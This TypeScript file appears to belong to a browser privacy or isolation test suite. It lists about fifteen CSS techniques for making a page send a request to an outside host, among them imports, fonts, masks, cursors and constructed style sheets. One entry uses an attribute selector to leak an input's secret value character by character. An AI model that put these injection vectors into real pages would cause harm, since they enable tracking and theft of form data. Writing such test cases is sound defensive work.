import { ways } from "../way.ts";

const style = (css: string) => `const s = document.createElement("style");
  s.textContent = \`${css}\`.replaceAll("THERE", there); document.head.append(s);
  document.body.insertAdjacentHTML("beforeend", "<ul class=leak><li>leak</li></ul>"); await sleep(200);`;

export const styles = ways({
  "an imported style sheet": style("@import url(THERE/a.css);"),
  "a background": style(".leak { background-image: url(THERE) }"),
  "a background in the style attribute": `document.body.style.backgroundImage = "url(" + there + ")"; await sleep(150);`,
  "an image-set": style(".leak { background-image: image-set('THERE' 1x) }"),
  "a font": style("@font-face { font-family: leak; src: url(THERE/a.woff2) } .leak { font-family: leak }"),
  "a list-style image": style(".leak li { list-style: url(THERE) }"),
  "a border image": style(".leak { border: 9px solid; border-image: url(THERE) 1 }"),
  "generated content": style(".leak::before { content: url(THERE) }"),
  "a mask": style(".leak { mask: url(THERE/a.svg#m) }"),
  "a filter": { code: style(".leak { filter: url(THERE/a.svg#f) }"), isHarmless: true },
  "a cursor": style(".leak { cursor: url(THERE), auto }"),
  "a shape-outside": style(".leak { shape-outside: url(THERE); float: left }"),
  "a constructed style sheet": `const s = new CSSStyleSheet(); s.replaceSync("body { background: url(" + there + ") }");
    document.adoptedStyleSheets = [s]; await sleep(150);`,
  "a value read by attribute selectors": `const i = document.createElement("input"); i.setAttribute("value", "secret"); document.body.append(i);
    const s = document.createElement("style"); s.textContent = "input[value^=s] { background: url(" + there + "/s) }"; document.head.append(s); await sleep(150);`,
  "a custom property": style(":root { --u: url(THERE) } .leak { background: var(--u) }"),
});
